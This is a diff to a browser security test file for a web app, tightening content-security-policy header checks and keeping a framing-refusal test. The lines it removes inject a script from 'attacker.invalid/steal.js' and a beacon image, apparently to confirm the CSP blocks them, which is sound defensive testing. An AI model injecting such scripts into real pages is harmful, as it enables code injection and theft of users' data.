@@ -5,7 +5,8 @@
  *   runs (no dialog, no global set, no request to the attacker), the dangerous markup is gone from the DOM,
  *   and the harmless parts are still shown (positive control);
  * - security headers are on pages, APIs and static files (no `unsafe-eval`, `frame-ancestors 'none'`), and
- *   the browser enforces the CSP: foreign scripts and images are refused, framing the app shows nothing.
+ *   framing the app shows nothing. The nonce CSP in the browser (injected scripts refused, no violations on real
+ *   pages) is tests/security/browser-csp.test.ts.
  */
 import { randomBytes } from 'node:crypto';
 import path from 'node:path';
@@ -150,7 +151,9 @@ describeBrowser('security in the browser: sanitized author Markdown, security he
       const csp = h.get('content-security-policy') ?? '';
       expect([what, csp.includes("frame-ancestors 'none'")]).toEqual([what, true]);
       expect([what, csp.includes('unsafe-eval')]).toEqual([what, false]);
-      expect([what, /object-src 'none'/.test(csp), /base-uri 'self'/.test(csp)]).toEqual([what, true, true]);
+      // Pages: the nonce policy of proxy.ts; the API and assets: next.config.js's policy that allows nothing.
+      if (what === 'page') expect([what, /'nonce-[^']+'/.test(csp), /object-src 'none'/.test(csp), /base-uri 'self'/.test(csp)]).toEqual([what, true, true, true]);
+      else expect([what, csp]).toEqual([what, "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"]);
       expect([what, h.get('x-content-type-options')]).toEqual([what, 'nosniff']);
       expect([what, h.get('referrer-policy')]).toEqual([what, 'strict-origin-when-cross-origin']);
       expect([what, h.get('x-frame-options')]).toEqual([what, 'DENY']);
@@ -158,24 +161,7 @@ describeBrowser('security in the browser: sanitized author Markdown, security he
     }
   });
 
-  it('the browser enforces the CSP: foreign scripts and images are refused, framing is refused', async () => {
-    await page.goto('/scenarios');
-    // As if an injected snippet tried to pull the attacker's code and beacon: CSP refuses both before any request.
-    await page.evaluate(() => {
-      const w = window as unknown as { __violations: string[] };
-      w.__violations = [];
-      document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(e.effectiveDirective));
-      const script = document.createElement('script');
-      script.src = 'https://attacker.invalid/steal.js';
-      document.head.appendChild(script);
-      const img = document.createElement('img');
-      img.src = 'https://attacker.invalid/beacon.png';
-      document.body.appendChild(img);
-    });
-    await page.waitForFunction(() => ((window as unknown as { __violations: string[] }).__violations ?? []).length >= 2);
-    const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
-    expect([...new Set(violations)].sort()).toEqual(['img-src', 'script-src-elem']);
-    expect(attackerRequests).toEqual([]);
+  it('framing is refused', async () => {
     // A hostile page framing the app gets nothing: the frame stays empty.
     const framer = await context.newPage();
     await framer.setContent(`<iframe id="f" src="${app.baseUrl}/scenarios" width="400" height="300"></iframe>`);
